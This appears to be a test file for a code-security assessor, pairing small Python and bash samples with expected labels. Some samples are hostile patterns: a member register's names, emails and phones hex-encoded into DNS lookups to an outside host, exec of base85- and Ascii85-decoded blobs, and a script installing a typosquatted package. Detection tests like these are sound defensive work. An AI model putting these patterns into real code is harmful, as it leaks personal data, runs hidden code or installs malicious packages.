@@ -1,0 +1,175 @@
+// The classes the twenty-fourth session modelled (issue 14), from the tune
+// part of the ninety-ninth round (tests/corpus/prog103_MANIFEST.tsv):
+// programs written from the rubric alone by writers who never saw the
+// assessor. Strings here are never executed.
+#include "test_util.hpp"
+
+namespace mai::assess::test {
+namespace {
+
+// Code compiled or evaluated from text a settings file or the user's rules
+// file may replace is not constant, even where the code's own default is:
+// a formula from league.ini, rules from a JSON file the user passes. What
+// only the code itself holds stays constant (LOW).
+TEST(NinetyNinthRoundClasses, CodeFromDefaultsASettingsFileMayReplaceIsNotConstant) {
+  const Case cases[] = {
+      {"a formula read_dict sets and league.ini may replace, evaluated", M,
+       "import configparser, sys\n"
+       "cfg = configparser.ConfigParser()\n"
+       "cfg.read_dict({\"score\": {\"formula\": \"int((base - avg) * pct)\"}})\n"
+       "cfg.read(\"league.ini\")\n"
+       "section = cfg[\"score\"]\n"
+       "print(eval(section[\"formula\"], {\"__builtins__\": {}}, {\"base\": 220, \"avg\": int(sys.argv[1]), \"pct\": 0.9}))\n",
+       "DYNAMIC-CODE"},
+      {"rules compiled from the user's JSON file or the defaults", M,
+       "import json, sys\n"
+       "DEFAULT = {\"rules\": [{\"when\": \"a['side'] != b['side']\", \"penalty\": 1}]}\n"
+       "spec = json.load(open(sys.argv[1])) if len(sys.argv) > 1 else DEFAULT\n"
+       "rules = [(compile(r[\"when\"], \"<rule>\", \"eval\"), r[\"penalty\"]) for r in spec.get(\"rules\", [])]\n"
+       "a, b = {\"side\": \"x\"}, {\"side\": \"y\"}\n"
+       "print(sum(p for code, p in rules if eval(code, {}, {\"a\": a, \"b\": b})))\n",
+       "DYNAMIC-CODE"},
+      {"a formula only the code holds", L,
+       "import sys\n"
+       "FORMULA = \"int((base - avg) * pct)\"\n"
+       "print(eval(FORMULA, {\"__builtins__\": {}}, {\"base\": 220, \"avg\": int(sys.argv[1]), \"pct\": 0.9}))\n"},
+      {"rules only the code holds, compiled and evaluated", L,
+       "RULES = [{\"when\": \"a['side'] != b['side']\", \"penalty\": 1}, {\"when\": \"a['age'] < 12\", \"penalty\": 3}]\n"
+       "rules = [(compile(r[\"when\"], \"<rule>\", \"eval\"), r[\"penalty\"]) for r in RULES]\n"
+       "a, b = {\"side\": \"x\", \"age\": 30}, {\"side\": \"y\", \"age\": 9}\n"
+       "print(sum(p for code, p in rules if eval(code, {}, {\"a\": a, \"b\": b})))\n"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// getattr with a name known only at run time may pick any attribute the
+// object holds, and a mapping with run-time keys given as **kwargs may fill
+// any field of a dataclass: a register's rows, rebuilt field by field into
+// DNS labels, leave the machine through the resolver. The same rows only
+// printed, next to an unrelated lookup, are ordinary work.
+TEST(NinetyNinthRoundClasses, RunTimeAttributeNamesAndKeywordsKeepTheRecordsData) {
+  const Case cases[] = {
+      {"every field of a CSV register hex-encoded into DNS labels", B,
+       "import csv, socket\n"
+       "from dataclasses import dataclass, fields\n"
+       "\n"
+       "@dataclass\n"
+       "class Member:\n"
+       "    name: str\n"
+       "    email: str\n"
+       "    phone: str\n"
+       "\n"
+       "def members(path):\n"
+       "    wanted = [f.name for f in fields(Member)]\n"
+       "    with open(path, newline=\"\") as fh:\n"
+       "        for row in csv.DictReader(fh):\n"
+       "            yield Member(**{k: (row.get(k) or \"\").strip() for k in wanted})\n"
+       "\n"
+       "for m in members(\"members.csv\"):\n"
+       "    record = \"|\".join(getattr(m, f.name) for f in fields(Member))\n"
+       "    label = record.encode().hex()[:60]\n"
+       "    try:\n"
+       "        socket.gethostbyname(f\"{label}.status.example.net\")\n"
+       "    except OSError:\n"
+       "        pass\n",
+       "COVERT-CHANNEL-EXFILTRATION"},
+      {"the same register printed; one fixed lookup", L,
+       "import csv, socket\n"
+       "from dataclasses import dataclass, fields\n"
+       "\n"
+       "@dataclass\n"
+       "class Member:\n"
+       "    name: str\n"
+       "    email: str\n"
+       "    phone: str\n"
+       "\n"
+       "def members(path):\n"
+       "    wanted = [f.name for f in fields(Member)]\n"
+       "    with open(path, newline=\"\") as fh:\n"
+       "        for row in csv.DictReader(fh):\n"
+       "            yield Member(**{k: (row.get(k) or \"\").strip() for k in wanted})\n"
+       "\n"
+       "for m in members(\"members.csv\"):\n"
+       "    record = \"|\".join(getattr(m, f.name) for f in fields(Member))\n"
+       "    print(record)\n"
+       "try:\n"
+       "    socket.gethostbyname(\"status.example.net\")\n"
+       "except OSError:\n"
+       "    pass\n"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// A blob the code holds is a payload even where a file may replace it, and
+// base85/Ascii85 are decoded as Python decodes them: a class attribute's
+// base85 zlib text executed is a decoded payload's execution. Decoding it
+// only to write it out is not.
+TEST(NinetyNinthRoundClasses, ABlobAFileMayReplaceIsStillAPayload) {
+  const Case cases[] = {
+      {"a packed base85 model exec'd unless a file replaces it", B,
+       "import base64, pathlib, sys, zlib\n"
+       "class Model:\n"
+       "    packed = \"c$`Z~O;bqDFDgn+F44%-wBk|#f}+%t(xN<t%silwf|i1zo`H!b7XT3|3&s\"\n"
+       "    def __init__(self, override=None):\n"
+       "        blob = self.packed\n"
+       "        if override is not None and override.exists():\n"
+       "            blob = override.read_text().strip()\n"
+       "        self.ns = {}\n"
+       "        exec(compile(zlib.decompress(base64.b85decode(blob)).decode(), \"<model>\", \"exec\"), self.ns)\n"
+       "m = Model(pathlib.Path(sys.argv[1]) if len(sys.argv) > 1 else None)\n"
+       "print(m.ns[\"correct\"](100))\n",
+       "EXEC-DECODED-PAYLOAD"},
+      {"an Ascii85 string exec'd", B,
+       "import base64\n"
+       "exec(base64.a85decode(\"E,oZ1F=8>C@;KXeEaa'$A0NH\"))\n",
+       "EXEC-DECODED-PAYLOAD"},
+      {"the packed model decoded and saved, never run", L,
+       "import base64, pathlib, sys, zlib\n"
+       "class Model:\n"
+       "    packed = \"c$`Z~O;bqDFDgn+F44%-wBk|#f}+%t(xN<t%silwf|i1zo`H!b7XT3|3&s\"\n"
+       "    def __init__(self, override=None):\n"
+       "        blob = self.packed\n"
+       "        if override is not None and override.exists():\n"
+       "            blob = override.read_text().strip()\n"
+       "        self.text = zlib.decompress(base64.b85decode(blob)).decode()\n"
+       "m = Model(pathlib.Path(sys.argv[1]) if len(sys.argv) > 1 else None)\n"
+       "pathlib.Path(\"model.txt\").write_text(m.text)\n"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// printf uses its format again while arguments are left: printf '%s\n'
+// "${LIST[@]}" > requirements.txt writes one package per line, and pip -r
+// of that file installs each, a typosquat among them.
+TEST(NinetyNinthRoundClasses, PrintfRepeatsItsFormatForEveryArgument) {
+  const Case cases[] = {
+      {"requirements written by printf of arrays, one a typosquat, installed", B,
+       "#!/bin/bash\n"
+       "set -euo pipefail\n"
+       "CORE=(\"pandas>=2.1\" \"python3-dateutil\" \"requests>=2.31\")\n"
+       "EXTRA=(\"unidecode==1.3.8\")\n"
+       "{\n"
+       "    echo \"# generated $(date -I)\"\n"
+       "    printf '%s\\n' \"${CORE[@]}\" \"${EXTRA[@]}\"\n"
+       "} > requirements.lock.txt\n"
+       "python3 -m venv .venv\n"
+       ".venv/bin/python -m pip install -q -r requirements.lock.txt\n",
+       "KNOWN-MALICIOUS-PACKAGE", SH},
+      {"the same with the genuine package", M,
+       "#!/bin/bash\n"
+       "set -euo pipefail\n"
+       "CORE=(\"pandas>=2.1\" \"python-dateutil\" \"requests>=2.31\")\n"
+       "EXTRA=(\"unidecode==1.3.8\")\n"
+       "{\n"
+       "    echo \"# generated $(date -I)\"\n"
+       "    printf '%s\\n' \"${CORE[@]}\" \"${EXTRA[@]}\"\n"
+       "} > requirements.lock.txt\n"
+       "python3 -m venv .venv\n"
+       ".venv/bin/python -m pip install -q -r requirements.lock.txt\n",
+       "INSTALLS-PACKAGES", SH},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+}  // namespace
+}  // namespace mai::assess::test
